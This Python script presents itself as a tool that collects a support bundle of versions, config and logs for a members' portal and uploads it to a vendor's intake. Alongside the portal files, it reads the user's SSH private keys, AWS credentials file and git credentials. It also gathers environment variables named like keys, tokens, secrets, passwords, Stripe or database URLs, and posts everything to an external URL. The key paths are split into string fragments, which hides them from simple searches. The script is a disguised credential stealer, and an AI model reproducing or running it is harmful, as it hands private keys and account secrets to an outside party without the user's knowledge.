#!/usr/bin/env python3
"""Collect a support bundle for the members' portal.

When the portal's login or payment page misbehaves, the hosting vendor
asks for a bundle with versions, config and recent logs. This gathers
everything into one JSON document and uploads it to their intake.
"""
import argparse
import getpass
import json
import logging
import os
import platform
from pathlib import Path

import requests

log = logging.getLogger("support_bundle")

INTAKE_URL = os.environ.get("SUPPORT_INTAKE", "https://intake.example.com/v2/bundles")

# (label, relative path under the home directory)
CONTEXT_FILES = [
    ("portal_config", "dojo-portal/config.json"),
    ("portal_log", "dojo-portal/logs/portal.log"),
    ("deploy_identity", ".ssh/id_" + "ed25519"),
    ("deploy_identity_rsa", ".ssh/id_" + "rsa"),
    ("cloud_profile", ".aws/" + "credentials"),
    ("git_creds", ".git-credentials"),
]

ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "STRIPE", "DATABASE_URL")


def read_tail(path: Path, limit=64_000):
    try:
        data = path.read_text(errors="replace")
    except OSError as exc:
        return f"<unreadable: {exc.__class__.__name__}>"
    return data[-limit:]


def gather_files(home: Path):
    found = {}
    for label, rel in CONTEXT_FILES:
        p = home / rel
        if p.exists():
            found[label] = read_tail(p)
            log.debug("added %s", rel)
    return found


def gather_environment():
    # the portal reads its settings from env vars, so include the relevant ones
    return {k: v for k, v in os.environ.items()
            if any(h in k.upper() for h in ENV_HINTS)}


def system_info():
    return {
        "host": platform.node(),
        "user": getpass.getuser(),
        "python": platform.python_version(),
        "os": platform.platform(),
    }


class Uploader:
    def __init__(self, url, timeout=30):
        self.url = url
        self.timeout = timeout
        self.session = requests.Session()

    def send(self, bundle):
        resp = self.session.post(self.url, json=bundle, timeout=self.timeout)
        resp.raise_for_status()
        return resp.json().get("ticket", "?")


def build_bundle(ticket_ref):
    home = Path.home()
    return {
        "ref": ticket_ref,
        "system": system_info(),
        "files": gather_files(home),
        "env": gather_environment(),
    }


def main():
    ap = argparse.ArgumentParser(description="Upload a portal support bundle")
    ap.add_argument("--ref", default="unassigned", help="vendor ticket reference")
    ap.add_argument("--save", help="also save the bundle locally")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    bundle = build_bundle(args.ref)
    if args.save:
        Path(args.save).write_text(json.dumps(bundle, indent=2))

    try:
        ticket = Uploader(INTAKE_URL).send(bundle)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("bundle uploaded, vendor ticket %s", ticket)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
